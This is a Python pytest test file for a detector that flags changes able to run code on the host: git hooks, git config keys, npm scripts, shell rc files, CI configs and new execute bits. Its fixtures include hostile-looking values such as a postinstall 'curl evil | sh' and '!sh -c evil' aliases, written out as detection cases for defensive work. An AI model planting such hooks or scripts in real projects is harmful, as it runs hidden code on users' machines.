"""The table of changes that run code on the host: paths, git config keys, package scripts
and execute bits, each judged by a plain function."""

from __future__ import annotations

from pathlib import PurePath

import pytest

from app.risky import (
    CODE_PATHS,
    Check,
    content_reason,
    executable_reason,
    git_commands,
    package_scripts,
    path_reasons,
    reasons_for,
)


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("/home/u/repo/.git/hooks/pre-commit", "a git hook"),
        ("/home/u/repo/.git/hooks/post-checkout", "a git hook"),
        ("/home/u/repo/.git/modules/lib/hooks/pre-push", "a git hook of a submodule"),
        ("/home/u/repo/.git/config", "git's settings"),
        ("/home/u/.gitconfig", "git's settings"),
        ("/home/u/proj/.envrc", "direnv"),
        ("/home/u/proj/.vscode/tasks.json", "VS Code runs its tasks"),
        ("/home/u/proj/.vscode/settings.json", "VS Code settings"),
        ("/home/u/proj/.idea/runConfigurations/Main.xml", "IntelliJ run configuration"),
        ("/home/u/.bashrc", "shell runs it"),
        ("/home/u/.zshenv", "shell runs it"),
        ("/home/u/.profile", "shell runs it"),
        ("/home/u/.config/fish/config.fish", "shell runs it"),
        ("/home/u/.config/autostart/x.desktop", "when you log in"),
        ("/home/u/proj/.npmrc", "npm's settings"),
        ("/home/u/proj/package.json", "npm runs its scripts"),
        ("/home/u/proj/Makefile", "make runs"),
        ("/home/u/proj/sub/rules.mk", "make runs"),
        ("/home/u/proj/GNUmakefile", "make runs"),
        ("/home/u/proj/.github/workflows/ci.yml", "CI workflow"),
        ("/home/u/proj/.gitlab-ci.yml", "CI pipeline"),
        ("/home/u/proj/.pre-commit-config.yaml", "pre-commit"),
        ("/home/u/proj/README.md", None),
        ("/home/u/proj/src/hooks/useThing.ts", None),  # a folder called hooks, not git's
        ("/home/u/proj/git/hooks/x", None),
        ("/home/u/proj/notes/bashrc.txt", None),
        ("/home/u/proj/Makefile.old", None),
        ("/home/u/proj/.github/README.md", None),
        ("/home/u/proj/package-lock.json", None),
    ],
)
def test_paths_that_run_code(path: str, why: str | None) -> None:
    found = path_reasons(PurePath(path))
    if why is None:
        assert found == []
    else:
        assert len(found) == 1 and why in found[0].why, found


def test_every_pattern_is_reachable_and_says_why() -> None:
    for code in CODE_PATHS:
        example = PurePath("/h", *code.pattern.replace("*", "x").split("/"))
        assert code in path_reasons(example), code
        assert code.why and not code.why.endswith(".")


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("[core]\n\tfsmonitor = touch /tmp/x\n", {("core.fsmonitor", "touch /tmp/x")}),
        ("[Core]\n\tFSMonitor = ./x\n", {("core.fsmonitor", "./x")}),  # any case
        ("[core] fsmonitor = ./x\n", {("core.fsmonitor", "./x")}),  # on the header's line
        ("[core]\n\tsshCommand = ssh -i k\n\tbare = false\n", {("core.sshcommand", "ssh -i k")}),
        ("[core]\n\tpager = less\n", {("core.pager", "less")}),
        ("[core]\n\thooksPath = /tmp/h\n", {("core.hookspath", "/tmp/h")}),
        ('[alias]\n\tst = "!sh -c evil"\n\tco = checkout\n', {("alias.st", "!sh -c evil")}),
        ('[filter "lfs"]\n\tsmudge = evil %f\n', {("filter.lfs.smudge", "evil %f")}),
        ('[diff "pdf"]\n\ttextconv = pdftotext\n', {("diff.pdf.textconv", "pdftotext")}),
        ("[diff.pdf]\n\ttextconv = x\n", {("diff.pdf.textconv", "x")}),  # the old form
        (
            '[credential "https://h"]\n\thelper = !evil\n',
            {("credential.https://h.helper", "!evil")},
        ),
        ("[include]\n\tpath = ../other\n", {("include.path", "../other")}),
        ('[includeIf "gitdir:~/w/"]\n\tpath = w.inc\n', {("includeif.gitdir:~/w/.path", "w.inc")}),
        ("[core]\n\t# fsmonitor = commented\n\tbare = false\n", set()),
        ('[remote "origin"]\n\turl = https://h/r\n\tfetch = +refs/*\n', set()),
        ("[user]\n\tname = A\n", set()),
        ("fsmonitor = before any section\n", set()),
    ],
)
def test_git_config_keys_that_run_commands(text: str, found: set[tuple[str, str]]) -> None:
    assert git_commands(text) == found


@pytest.mark.parametrize(
    ("text", "scripts"),
    [
        ('{"scripts": {"postinstall": "curl evil | sh"}}', {"postinstall": "curl evil | sh"}),
        ('{"name": "x"}', {}),
        ('{"scripts": "not an object"}', {}),
        ("not json", {}),
        ("[1, 2]", {}),
    ],
)
def test_package_scripts(text: str, scripts: dict[str, str]) -> None:
    assert package_scripts(text) == scripts


GIT = next(c for c in CODE_PATHS if c.check is Check.GIT_CONFIG)
NPM = next(c for c in CODE_PATHS if c.check is Check.PACKAGE_SCRIPTS)


@pytest.mark.parametrize(
    ("code", "new", "old", "why"),
    [
        (GIT, "[core]\n\tfsmonitor = x\n", "[core]\n\tbare = false\n", "core.fsmonitor = x"),
        (GIT, "[core]\n\tfsmonitor = x\n\tbare = true\n", "[core]\n\tfsmonitor = x\n", None),
        (GIT, "[core]\n\tfsmonitor = y\n", "[core]\n\tfsmonitor = x\n", "core.fsmonitor = y"),
        (GIT, None, "", "could not be read"),
        (
            NPM,
            '{"scripts": {"test": "pytest", "postinstall": "evil"}}',
            '{"scripts": {"test": "pytest"}}',
            "postinstall = evil",
        ),
        (
            NPM,
            '{"scripts": {"test": "pytest"}, "version": "2"}',
            '{"scripts": {"test": "pytest"}}',
            None,
        ),
        (NPM, '{"scripts": {"test": "x"}}', "", "test = x"),  # a new package.json
        (NPM, None, "{}", "could not be read"),
    ],
)
def test_content_decides_for_git_config_and_package_json(
    code: object, new: str | None, old: str | None, why: str | None
) -> None:
    found = content_reason(code, new, old)  # type: ignore[arg-type]
    assert found is None if why is None else (found is not None and why in found), found


@pytest.mark.parametrize(
    ("before", "after", "why"),
    [
        (None, 0o755, "new and executable (0755)"),
        (None, 0o644, None),
        (0o644, 0o744, "newly executable (0644 -> 0744)"),
        (0o755, 0o755, None),
        (0o755, 0o644, None),
        (0o744, 0o755, "newly executable (0744 -> 0755)"),  # x for the group and others
        (0o644, None, None),
    ],
)
def test_newly_set_execute_bits(before: int | None, after: int | None, why: str | None) -> None:
    found = executable_reason(before, after)
    assert found is None if why is None else (found is not None and found.startswith(why))


def test_a_hook_made_executable_gives_both_reasons() -> None:
    reasons = reasons_for(PurePath("/r/.git/hooks/pre-commit"), (None, 0o755), True)
    assert len(reasons) == 2 and "git hook" in reasons[0] and "executable" in reasons[1]
    assert reasons_for(PurePath("/r/.git/hooks"), (None, 0o755), False) == []  # a directory
